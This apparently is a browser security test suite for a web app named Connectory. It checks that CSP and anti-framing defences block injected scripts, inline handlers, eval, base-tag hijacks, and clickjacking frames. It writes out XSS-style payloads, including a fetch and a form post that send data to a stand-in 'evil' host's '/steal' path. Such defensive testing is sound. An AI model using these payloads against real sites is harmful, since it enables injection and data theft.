"""Attacks 69 and 70 in a real browser: what gets into a page by some mistake runs nothing and sends nothing away."""

from __future__ import annotations

from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from datetime import timedelta
from typing import Any

import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, PlainTextResponse, Response
from starlette.routing import Route
from tests.web.browsing import services_of
from tests.web.chromium import browsing, needs_chromium
from tests.web.ports import free_port, serving

from connectory.identity.principal import Principal
from connectory.settings import Settings
from connectory.testing.application import make_application, make_principal, make_settings
from connectory.web.app import create_web_app
from connectory.wiring import Application

pytestmark = [pytest.mark.slow, needs_chromium]
OF_MEMBERS = [f"/workspaces/default/{page}" for page in ("connectors", "activity", "settings")]
PAGES = ["/", "/signin", "/nowhere", *OF_MEMBERS]

# What an injection would try, as an expression that is true where it worked.
INJECTIONS = {
    "inline script": """() => { const s = document.createElement('script'); s.textContent = 'window.ran = 1';
        document.body.append(s); return window.ran === 1; }""",
    "inline handler": """async () => { document.body.insertAdjacentHTML('beforeend',
        '<img src="/nowhere.png" onerror="window.ran = 1">'); await new Promise(r => setTimeout(r, 300));
        return window.ran === 1; }""",
    # Later: what the debugger itself calls may use eval.
    "eval": """() => new Promise(done => setTimeout(() => { try { done(eval('1 + 1') === 2); }
        catch (error) { done(false); } }, 0))""",
    "foreign script": """(evil) => new Promise(done => { const s = document.createElement('script');
        s.src = evil + '/evil.js'; s.onload = () => done(true); s.onerror = () => done(false);
        document.body.append(s); })""",
    "data script": """() => new Promise(done => { const s = document.createElement('script');
        s.src = 'data:text/javascript,window.ran=1'; s.onload = () => done(true); s.onerror = () => done(false);
        document.body.append(s); })""",
    "base": """(evil) => { document.head.insertAdjacentHTML('afterbegin', '<base href="' + evil + '/">');
        const a = document.createElement('a'); a.setAttribute('href', 'x'); return a.href.startsWith(evil); }""",
    "foreign fetch": "(evil) => fetch(evil + '/steal', {mode: 'no-cors'}).then(() => true, () => false)",
    "inline style": """() => { document.body.insertAdjacentHTML('beforeend',
        '<p id="styled" style="position: fixed">x</p>');
        return getComputedStyle(document.getElementById('styled')).position === 'fixed'; }""",
}  # fmt: skip


async def _evil(request: Request) -> Response:
    if request.url.path == "/frame":
        return HTMLResponse(f'<iframe id="victim" src="{request.query_params["of"]}"></iframe>')
    return PlainTextResponse("window.ran = 1", media_type="text/javascript")


@asynccontextmanager
async def browser_at_both() -> AsyncIterator[tuple[Any, str, str, list[str]]]:
    """A page that is signed in, our origin, an attacker's, and what reached the attacker."""
    settings, evil = make_settings(CONNECTORY_PORT=str(free_port())), Settings.model_validate({"port": free_port()})
    reached: list[str] = []

    async def serve_evil(request: Request) -> Response:
        reached.append(request.url.path)
        return await _evil(request)

    there = Starlette(routes=[Route("/{path:path}", serve_evil, methods=["GET", "POST"])])
    async with make_application(settings=settings) as application:
        app = create_web_app(services_of(application))
        async with serving(app, settings), serving(there, evil), browsing() as page:
            await page.goto(f"{settings.origin}/open/{await _secret(application, await make_principal(application))}")
            yield page, settings.origin, f"http://127.0.0.1:{evil.port}", reached


async def _secret(application: Application, principal: Principal) -> str:
    return await application.web_sessions.make_link(principal, timedelta(minutes=1))


async def test_attack_70_nothing_that_is_injected_runs_or_leads_away() -> None:
    async with browser_at_both() as (page, ours, evil, reached):
        for path in PAGES:
            await page.goto(ours + path)
            worked = {name: await page.evaluate(script, evil) for name, script in INJECTIONS.items()}
            assert worked == dict.fromkeys(INJECTIONS, False), path
        assert reached == []


async def test_attack_70_a_form_to_elsewhere_is_not_sent() -> None:
    async with browser_at_both() as (page, ours, evil, reached):
        await page.goto(f"{ours}/workspaces/default/connectors")
        await page.evaluate(
            """(evil) => { document.body.insertAdjacentHTML('beforeend',
            '<form id="f" method="post" action="' + evil + '/steal"><input name="csrf" value="x"></form>');
            document.getElementById('f').submit(); }""",
            evil,
        )
        await page.wait_for_timeout(500)
        assert reached == []
        assert page.url.startswith(ours)


async def test_attack_70_our_own_scripts_run() -> None:
    """Else the tests above would pass for pages without any."""
    async with browser_at_both() as (page, ours, _, __):
        await page.goto(f"{ours}/workspaces/default/connectors")
        assert await page.evaluate("() => htmx.version") == "2.0.11"
        assert await page.evaluate("() => htmx.config.allowEval") is False


async def test_attack_69_no_page_of_ours_shows_in_a_frame() -> None:
    async with browser_at_both() as (page, ours, evil, _):
        for path in PAGES:
            await page.goto(f"{evil}/frame?of={ours}{path}")
            await page.wait_for_timeout(200)
            (frame,) = page.main_frame.child_frames
            assert "Connectory" not in await frame.content(), path
